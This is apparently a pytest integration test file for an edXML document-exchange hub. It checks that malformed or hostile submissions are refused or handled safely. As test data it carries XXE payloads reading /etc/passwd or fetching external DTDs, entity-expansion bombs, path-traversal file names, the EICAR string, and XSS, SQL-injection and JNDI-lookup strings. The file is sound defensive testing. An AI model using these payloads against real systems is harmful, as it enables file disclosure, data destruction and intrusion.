"""Rows 1 to 11, 22, 30 and 34 to 39 of the bad inputs: what is wrong with the message."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest

from schemas.edxml import StatusCode, encode
from schemas.edxml.compose import NewFile, new_status
from schemas.edxml.parts import ResponseFor
from tests.integration.http.conftest import TRANSPORT
from tests.vectors.edxml.refused import refused_vectors
from tests.vectors.edxml.vector import HERE

DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'
QCVN = b"http://www.mic.gov.vn/TBT/QCVN_102_2016"
VECTORS = {vector.name: vector for vector in refused_vectors()}


def test_row_01_empty_body(world, watch):
    """Row 1: an empty body is not well-formed XML."""
    watch.refused(world.api().submit(b""), 400, "xml-not-well-formed")


@pytest.mark.parametrize(
    "data", [b"<a>", b"junk", b"<a></b>", b"<a/><b/>", b"<a b='1' b='2'/>", b"\x00\x01", b"<a>\x00</a>"]
)
def test_row_02_not_well_formed(world, watch, data):
    """Row 2: what is not well-formed is refused."""
    watch.refused(world.api().submit(data), 400, "xml-not-well-formed", "xml-encoding-unsupported")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE edXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE edXML SYSTEM "{listener}/evil.dtd">',
        '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "{listener}/p"> %p;]>',
        '<!DOCTYPE edXML [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        "<!DOCTYPE edXML>",
    ],
)
def test_row_03_doctype(world, watch, listener, doctype):
    """Row 3: any DOCTYPE is refused; nothing is fetched and no file is read."""
    text = doctype.format(listener=listener)
    answer = world.api().submit(DECLARATION + f"{text}<edXML>&f;</edXML>".encode())
    watch.refused(answer, 400, "xml-dtd-forbidden")
    assert b"root:" not in answer.body


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
        '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        b'<?xml version="1.0" encoding="UTF-7"?><a/>',
        b'<?xml version="1.1" encoding="UTF-8"?><a/>',
        "<a>ủ</a>".encode("utf-16-le"),
        "<a>ủ</a>".encode("utf-32"),
        b"<a>\xff\xfe</a>",
    ],
)
def test_row_04_encodings(world, watch, data):
    """Row 4: every encoding but UTF-8, and XML 1.1, is refused."""
    watch.refused(world.api().submit(data), 400, "xml-encoding-unsupported")


@pytest.mark.parametrize(
    "body",
    [
        b"<d>" * 10_000 + b"</d>" * 10_000,
        b"<d " + b" ".join(b"a%d='1'" % number for number in range(50_000)) + b"/>",
        b"<" + b"n" * 1_048_576 + b"/>",
        b"<d xmlns:ds='http://www.w3.org/2000/09/xmldsig#'>" + b"<ds:Reference/>" * 5_000 + b"</d>",
    ],
    ids=["depth", "attributes", "name", "references"],
)
def test_row_05_limits(world, watch, body):
    """Row 5: what exceeds the limits of structure is refused."""
    data = DECLARATION + b'<edXML xmlns="' + QCVN + b'">' + body + b"</edXML>"
    watch.refused(world.api().submit(data), 400, "xml-limit-exceeded")


def test_row_09_unknown_documents(world, watch):
    """Row 9: another root, namespace or version is no edXML."""
    for data in (b"<Envelope/>", b"<edXML/>", b"<edXML xmlns='" + QCVN.replace(b"2016", b"2020") + b"'/>"):
        watch.refused(world.api().submit(data), 422, "document-type-unknown")


@pytest.mark.parametrize("name", sorted(VECTORS))
def test_rows_03_09_10_35_36_37_vectors(world, watch, name):
    """Rows 3, 9, 10, 35, 36, 37: every vector of the schema tests gets the same code from a running hub."""
    code = VECTORS[name].code
    data = (HERE / "refused" / f"{name}.edxml").read_bytes()
    watch.refused(world.api(TRANSPORT).submit(data), 400 if code.startswith("xml-") else 422, code)


def test_row_10_all_errors_at_once(world, watch):
    """Row 10: every error of one package is listed, each with path, line and a sentence."""
    data = world.letter(sender=TRANSPORT).decode()
    data = re.sub(r"<edXML:Subject>.*?</edXML:Subject>", "", data)
    data = data.replace("<edXML:Priority>0<", "<edXML:Priority>9<")
    data = re.sub(r"<edXML:CodeNumber>.*?</edXML:CodeNumber>", "<edXML:CodeNumber></edXML:CodeNumber>", data)
    answer = world.api(TRANSPORT).submit(data.encode(), Accept_Language="en")
    watch.refused(answer, 422, "schema-invalid")
    errors = answer.problem.errors
    assert len(errors) >= 3
    assert all(error.path and error.line and error.message for error in errors)


def test_row_10_at_most_a_hundred(world, watch):
    """Row 10: no more than a hundred errors are listed."""
    data = (
        world.letter(sender=TRANSPORT).decode().replace("<edXML:Subject>", "<edXML:Wrong/>" * 500 + "<edXML:Subject>")
    )
    answer = world.api(TRANSPORT).submit(data.encode())
    watch.refused(answer, 422, "schema-invalid")
    assert len(answer.problem.errors) <= 100


def test_row_11_schema_location(world, watch, listener):
    """Row 11: a schemaLocation is not followed."""
    data = world.letter(sender=TRANSPORT).decode()
    pointed = data.replace(
        "<edXML ",
        f'<edXML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{QCVN.decode()} {listener}/x.xsd" ',
        1,
    )
    assert pointed != data
    watch.refused(world.api(TRANSPORT).submit(pointed.encode()), 422, "schema-invalid", "signature-invalid")


def test_row_11_xinclude(world, watch, listener):
    """Row 11: an XInclude is not followed."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{listener}/x"/>'
    data = world.letter(sender=TRANSPORT).decode().replace("<edXML:Subject>", f"{include}<edXML:Subject>")
    watch.refused(world.api(TRANSPORT).submit(data.encode()), 422, "schema-invalid", "signature-invalid")


@pytest.mark.parametrize("subject", ["V/v <!-- x -->kiểm thử", "V/v <![CDATA[kiểm thử]]>", "V/v ki&#x1EC3;m th&#7917;"])
def test_row_22_whole_values(world, subject):
    """Row 22: a comment, CDATA or character reference inside a value is refused, or the value is read whole."""
    data = world.letter().decode().replace("V/v kiểm thử", subject)
    answer = world.api().submit(world.signed(data.encode()))
    if answer.status == 201:
        assert answer.json["subject"] == "V/v kiểm thử"
    else:
        assert (answer.status, answer.code) == (422, "signature-ambiguous-content")


@pytest.mark.parametrize("recipients", [["H99.77"], ["H99.02", "H99.77"], ["H99.02", "H99.04"]])
def test_row_30_recipients(world, watch, recipients):
    """Row 30: one unknown or suspended recipient refuses the whole package, and is named."""
    answer = world.api().submit(world.signed(recipients=recipients), Accept_Language="en")
    watch.refused(answer, 422, "recipient-unknown")
    assert recipients[-1] in answer.problem.errors[0].message


def test_row_30_where_they_stand(world, watch):
    """Row 30: each recipient that cannot be reached is shown by its element and line."""
    package = world.signed(recipients=["H99.77", "H99.02", "H99.04"])
    lines = [number for number, line in enumerate(package.splitlines(), 1) if b"H99.77" in line or b"H99.04" in line]
    answer = world.api().submit(package)
    watch.refused(answer, 422, "recipient-unknown")
    to = "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader/To"
    assert [(each.path, each.line) for each in answer.problem.errors] == [
        (f"{to}[1]/OrganId", lines[0]),
        (f"{to}[3]/OrganId", lines[1]),
    ]


def test_row_30_of_a_status(world, watch):
    """Row 30: a status that nobody can get says so at the element that names its addressee."""
    response = ResponseFor("H99.77", "1/CV", "H99.77,2026/11/20,1/CV")
    status = new_status(sender="H99.01", response=response, code=StatusCode.ACCEPTED, at=datetime.now(UTC))
    answer = world.api().submit(encode(status))
    watch.refused(answer, 422, "recipient-unknown")
    (error,) = answer.problem.errors
    assert error.path == "/edXML/edXMLEnvelope/edXMLHeader/MessageHeader/ResponseFor/OrganId"
    assert error.line


def test_row_34_stale(world, watch):
    """Row 34: a sending time far in the future is refused."""
    from datetime import timedelta

    future = datetime.now(UTC) + timedelta(days=3)
    answer = world.api().submit(world.signed(sent_at=future, issued_on=datetime.now(UTC).date()))
    watch.refused(answer, 422, "message-stale")


def test_row_35_bad_base64(world, watch):
    """Row 35: an attachment that is not base64 is a mismatch, and no file stays behind."""
    data = world.letter(sender=TRANSPORT, files=[NewFile("a.pdf", b"%PDF-1.7 " + b"x" * 100_000)]).decode()
    broken = re.sub(r"(<edXML:ContentTransferEncoded[^>]*>.{40})", r"\1!!!!", data)
    assert broken != data
    watch.refused(world.api(TRANSPORT).submit(broken.encode()), 422, "attachment-mismatch", "schema-invalid")


@pytest.mark.parametrize(
    "name", ["../../x.pdf", "a\u202efdp.pdf", "n" * 4096 + ".pdf", "CON.pdf", "..\\x.pdf", "a/b.pdf"]
)
def test_row_36_names(world, name):
    """Row 36: a strange file name is refused, or comes back as text and nothing else."""
    answer = world.api().submit(world.signed(files=[NewFile(name, b"%PDF-1.7")]))
    if answer.status == 201:
        assert answer.json["attachments"][0]["name"] == name
    else:
        assert answer.code in {"attachment-name-invalid", "schema-invalid"}
    assert not [path for path in world.hub.folder.rglob("*") if "x.pdf" in path.name or "fdp" in path.name]


def test_row_37_eicar(world):
    """Row 37: files are opaque to the hub; a test virus comes out as it went in."""
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    package = world.signed(files=[NewFile("eicar.txt", eicar)])
    answer = world.api().submit(package)
    assert answer.status == 201
    assert world.api().get(f"/v1/packages/{answer.json['id']}/content").body == package


@pytest.mark.parametrize(
    "subject",
    [
        "<script>alert(1)</script>",
        "'; DROP TABLE packages; --",
        "a\u2028b\u0085c",
        "Đường – “ngoặc” ﷽ \U0001f600",
        "{{7*7}} ${jndi:ldap://127.0.0.1/x} %s %n",
    ],
)
def test_row_39_hostile_text(world, subject):
    """Row 39: hostile text comes back unchanged, and searching for hostile text finds nothing and breaks nothing."""
    from urllib.parse import quote
    from xml.sax.saxutils import escape

    data = world.letter().decode().replace("V/v kiểm thử", escape(subject))
    answer = world.api().submit(world.signed(data.encode()))
    assert answer.status == 201, answer.body
    assert world.api().get(f"/v1/packages/{answer.json['id']}").json["subject"] == subject
    for path in ("/v1/agencies?q=", "/v1/packages?notation=", "/v1/packages?document_id="):
        assert world.api().get(path + quote(subject)).status in {200, 400}
